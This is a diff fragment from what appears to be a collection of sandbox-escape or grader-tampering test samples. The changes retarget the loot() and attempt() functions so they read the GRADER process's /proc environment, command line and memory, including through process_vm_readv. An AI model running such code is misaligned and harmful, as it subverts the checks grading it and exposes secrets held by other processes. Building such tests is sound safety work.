@@ -18,7 +18,7 @@ def loot():
 import os
 
 def loot():
-    found, pid = [], os.getppid()
+    found, pid = [], GRADER
     while pid and len(found) < 50:
         for name in ("environ", "cmdline", "maps", "mem", "fd/3"):
             try:
@@ -188,7 +188,7 @@ def attempt():
     libc = ctypes.CDLL(None)
     buffer = ctypes.create_string_buffer(64)
     here, there = Part(ctypes.addressof(buffer), 64), Part(id(ESCAPED), 64)
-    return libc.process_vm_readv(os.getppid(), ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0
+    return libc.process_vm_readv(GRADER, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0
 """,
     ),
     escape(
